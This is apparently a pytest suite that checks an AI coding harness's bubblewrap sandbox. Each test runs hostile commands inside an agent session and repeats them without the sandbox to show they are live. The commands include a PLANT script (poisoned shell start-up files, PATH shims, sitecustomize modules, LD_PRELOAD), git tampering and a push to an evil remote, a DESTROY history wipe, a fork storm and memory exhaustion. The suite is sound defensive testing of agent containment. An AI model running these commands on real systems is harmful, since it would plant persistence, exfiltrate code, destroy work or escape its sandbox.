"""Hostile code in a session, case by case (SH, FS, GI, RE), each with its broken twin: the control taken out.

What bubblewrap's command line alone decides is in test_sandbox_bubblewrap.py; here sessions and the harness's own
programs are looked at.
"""

from __future__ import annotations

import asyncio
import os
import socket
import subprocess
import sys
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from harness.commits import begun_unasked, make_trailers
from harness.repo import Repo
from harness.sandbox import tree as processes
from harness.sandbox.policy import Policy, protected_in
from harness.sandbox.processes import Room
from harness.settings import SandboxMode, SandboxSettings
from harness.tools.files import file_tools
from harness.worktree import Worktree

pytestmark = pytest.mark.needs("bwrap")

SETTINGS = SandboxSettings(command_seconds=30)


@dataclass
class Session:
    """A session's room on a linked worktree, as the coder has it; and what lies outside."""

    room: Room
    tree: Worktree
    repo: Repo
    outside: Path

    async def run(self, command: str) -> str:
        return (await self.room.run(command, env={"OUTSIDE": str(self.outside)})).output


@asynccontextmanager
async def session_in(project_dir: Path, home: Path, mode: SandboxMode = "project") -> AsyncIterator[Session]:
    (home / "outside").mkdir(exist_ok=True)
    (home / "outside" / "secret").write_text("canary")
    repo = Repo.open(project_dir)
    tree = await repo.open_worktree(home / "tree", "harness/t1")
    (tree.directory / "work.txt").write_text("proved\n")
    await tree.commit("work", "", make_trailers("t1", "s-1", "F001"))
    policy = Policy(
        worktree=tree.path,
        scratch=home / "scratch",
        data_dir=home / "scratch" / "data",
        mode=mode,
        git_dir=repo.git.common_dir,
        protected=protected_in(tree.prefix),
    )
    async with Room.open(policy, SETTINGS.model_copy(update={"mode": mode}), home / "journal") as room:
        yield Session(room, tree, repo, home / "outside")


@pytest.fixture
async def session(project_dir: Path, tmp_path: Path) -> AsyncIterator[Session]:
    async with session_in(project_dir, tmp_path) as opened:
        yield opened


async def test_a_nul_is_what_is_refused(session: Session) -> None:
    """SH-3; the twin is the same command without it."""
    with pytest.raises(ValueError, match="NUL"):
        await session.run("touch made; echo \0")
    assert not (session.tree.directory / "made").exists()
    await session.run("touch made; echo 0")
    assert (session.tree.directory / "made").exists()


PLANT = r"""
payload='touch "$OUTSIDE_OF_THIS"/marker'
for name in .bashrc .bash_profile .profile .bash_login; do echo "$payload" >~/$name; cp ~/$name .; done
echo "$payload" >startup.sh
mkdir -p ~/.local/bin bin
for name in git bash prlimit python3 rg node; do
  { echo '#!/bin/sh'; echo "$payload"; } >~/.local/bin/$name; chmod +x ~/.local/bin/$name; cp ~/.local/bin/$name bin
done
for name in sitecustomize usercustomize json re socket; do
  echo 'import pathlib, os; pathlib.Path(os.environ["OUTSIDE_OF_THIS"], "marker").touch()' >$name.py
done
export LD_PRELOAD=/project/evil.so BASH_ENV=/project/startup.sh ENV=/project/startup.sh
export PROMPT_COMMAND='. /project/startup.sh' NODE_OPTIONS=--require=/project/evil.js PYTHONSTARTUP=/project/json.py
env | grep -c evil
"""


async def test_what_a_command_plants_reaches_no_program_of_the_harness(
    session: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    """SH-4: start-up files, a search path, modules and variables; the twin runs one of them outside."""
    monkeypatch.setenv("OUTSIDE_OF_THIS", str(session.outside))
    marker, tree = session.outside / "marker", session.tree
    assert "2" in (await session.run(PLANT)).split()
    assert "evil" not in await session.run("env"), "the next command starts with its own variables"
    await tree.snapshot()
    await tree.diff("HEAD")
    search = next(tool for tool in file_tools(tree.directory) if tool.name == "search_files")
    await search.call(search.arguments.model_validate({"pattern": "payload"}))
    server = await session.room.start("exec /usr/bin/env -i sleep 20")
    await session.room.http_ready("http://127.0.0.1:9/", 0.2, server)
    assert not marker.exists()
    hijacked = {**os.environ, "BASH_ENV": str(tree.directory / "startup.sh")}
    subprocess.run(["bash", "-c", "true"], env=hijacked, check=True)  # noqa: ASYNC221 - nothing else runs
    assert marker.exists(), "the payload was not live"


ABSTRACT = "import socket, sys; socket.socket(socket.AF_UNIX).connect('\\0' + sys.argv[1]); print('BREACH')"


async def test_abstract_sockets_of_the_machine_are_not_there(session: Session) -> None:
    """SH-9: X11 and dbus listen so; the twin connects from outside."""
    name = f"harness-test-{os.getpid()}"
    with socket.socket(socket.AF_UNIX) as display:
        display.bind(f"\0{name}")
        display.listen()
        assert "BREACH" not in (await session.room.run(["python3", "-c", ABSTRACT, name])).output
        twin = [sys.executable, "-c", ABSTRACT, name]
        done = subprocess.run(twin, capture_output=True, text=True, check=True)  # noqa: ASYNC221 - nothing else runs
        assert done.stdout == "BREACH\n"


async def test_another_directory_to_start_in_is_no_other_boundary(session: Session, tmp_path: Path) -> None:
    """FS-7; the twin is the same wish without a sandbox."""
    command = f"cd {session.outside} && touch from-outside; touch /from-root && echo BREACH; pwd"
    result = await session.room.run(command, cwd="/")
    assert result.output.splitlines()[-1] == "/"
    assert "BREACH" not in result.output
    assert not (session.outside / "from-outside").exists()
    off = replace(session.room.policy, mode="off", scratch=tmp_path / "off")
    async with Room.open(off, SETTINGS, tmp_path / "off-journal") as room:
        await room.run(f"cd {session.outside} && touch from-outside", cwd="/")
    assert (session.outside / "from-outside").exists()


GIT_FILES = {
    "alternates": 'echo /project >>"$GIT/objects/info/alternates"',
    "commondir": 'echo /project >"$GIT/worktrees/tree/commondir"',
    "pointer": "echo gitdir: /project >.git",
    "config": 'git config core.fsmonitor "touch /tmp/x"',
    "remote": "git remote add evil https://evil.invalid/x.git",
    "hooks": 'mkdir -p "$GIT/hooks" && echo x >"$GIT/hooks/pre-push"',
    "attributes": 'mkdir -p "$GIT/info" && echo "* filter=x" >"$GIT/info/attributes"',
    "branch": "git branch evil",
    "commit": "git -c user.name=x -c user.email=x commit -q --allow-empty -m evil",
    "index": "git rm -q --cached work.txt",
}


@pytest.mark.parametrize("mode", ["project", "off"])
@pytest.mark.parametrize("name", GIT_FILES)
async def test_what_git_stands_on_cannot_be_written(
    project_dir: Path, tmp_path: Path, name: str, mode: SandboxMode
) -> None:
    """GI-1 to GI-5, GI-7; the twin is a session without a sandbox."""
    async with session_in(project_dir, tmp_path, mode) as session:
        output = await session.run(f"GIT={project_dir}/.git; {GIT_FILES[name]} && echo BREACH")
    assert ("BREACH" in output) == (mode == "off"), output


async def test_nothing_is_pushed_and_no_setting_of_the_person_is_made(
    session: Session, project_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """GI-7; the twin pushes from outside."""
    far = session.outside / "far.git"
    subprocess.run(["git", "init", "--quiet", "--bare", str(far)], check=True)  # noqa: ASYNC221 - nothing else runs
    push = f"git push {far} HEAD:refs/heads/stolen"
    before = Path(os.environ["GIT_CONFIG_GLOBAL"]).read_text()
    await session.run(f"{push}; git config --global user.name evil; git push https://192.0.2.1/x.git HEAD")
    refs = ["git", "--git-dir", str(far), "for-each-ref"]
    assert subprocess.run(refs, capture_output=True, check=True).stdout == b""  # noqa: ASYNC221 - as above
    assert Path(os.environ["GIT_CONFIG_GLOBAL"]).read_text() == before
    subprocess.run(push.split(), cwd=session.tree.path, check=True, capture_output=True)  # noqa: ASYNC221 - as above
    assert b"stolen" in subprocess.run(refs, capture_output=True, check=True).stdout  # noqa: ASYNC221 - as above


DESTROY = (
    "git reset -q --hard HEAD~1; git clean -qfdx; git reflog expire --expire=now --all; git gc -q --prune=now;"
    " rm -rf .git work.txt; true"
)


@pytest.mark.parametrize("mode", ["project", "off"])
async def test_proved_work_outlives_destruction(project_dir: Path, tmp_path: Path, mode: SandboxMode) -> None:
    """GI-8; the twin loses the commit."""
    async with session_in(project_dir, tmp_path, mode) as session:
        sha = await session.tree.head()
        await session.run(DESTROY)
        assert not (session.tree.directory / "work.txt").exists()
    there = subprocess.run(["git", "cat-file", "-e", sha], cwd=project_dir, check=False, capture_output=True)  # noqa: ASYNC221 - nothing else runs
    assert (there.returncode == 0) == (mode == "project")
    if mode == "project":
        again = await session.repo.open_worktree(session.tree.path, "harness/t1")
        await again.reset(sha)
        assert (again.directory / "work.txt").read_text() == "proved\n"


@pytest.mark.parametrize(
    ("name", "told"),
    [
        *[(name, True) for name in (".envrc", "sub/.envrc", ".vscode/tasks.json", ".claude/settings.json", ".Husky/x")],
        *[(name, True) for name in (".harness/policy", ".gitattributes", ".github/workflows/ci.yml", ".npmrc")],
        *[(name, False) for name in ("src/envrc", ".github/README.md", "a.vscode", ".gitignore", "vscode/tasks.json")],
    ],
)
async def test_files_that_other_programs_act_on_are_told(session: Session, name: str, told: bool) -> None:
    """FS-6: they may be made, are never loaded by the harness, and a commit that holds one says so."""
    base = await session.tree.head()
    await session.run(f"mkdir -p $(dirname {name}); echo x >{name}")
    assert begun_unasked(await session.tree.changed_files(base)) == ([name] if told else [])


ZOMBIES = (
    "import os, time\nfor _ in range(200):\n    os.fork() or os._exit(0)\nprint('born', flush=True)\ntime.sleep(60)"
)


async def test_a_storm_of_zombies_ends_with_the_command(session: Session) -> None:
    """RE-3; the twin is the storm while it lasts."""
    before = zombies()
    storm = await session.room.start(["python3", "-c", ZOMBIES])
    await until(lambda: "born" in storm.output())
    assert zombies() - before >= 100
    await storm.stop()
    assert zombies() - before < 100
    result = await session.room.run(["python3", "-c", ZOMBIES], timeout_seconds=2)
    assert result.killed_for == "time limit 2 s"
    assert zombies() - before < 100
    assert await session.run("echo fine") == "fine\n"


async def test_memory_of_fifty_processes_is_one_sum(project_dir: Path, tmp_path: Path) -> None:
    """RE-2; the twin has the room it needs."""
    eat = (
        "for i in $(seq 50); do python3 -c 'x = b\"x\" * (6 << 20); import time; time.sleep(8)' & done; wait; echo done"
    )
    async with session_in(project_dir, tmp_path) as session:
        session.room.settings = SETTINGS.model_copy(update={"memory_mb": 200})
        result = await session.room.run(eat)
        assert result.killed_for == "memory limit 200 MB"
        assert await session.run("echo fine") == "fine\n"
        session.room.settings = SETTINGS
        assert (await session.room.run(eat)).output.endswith("done\n")


def zombies() -> int:
    """Dead processes below us that nobody collected."""
    below = processes.descendants([os.getpid()])[os.getpid()]
    return sum(1 for pid in below if not processes.is_alive(pid))


async def until(holds: Callable[[], bool], seconds: float = 20) -> None:
    async with asyncio.timeout(seconds):
        while not holds():  # noqa: ASYNC110 - a process has no event to wait for
            await asyncio.sleep(0.02)
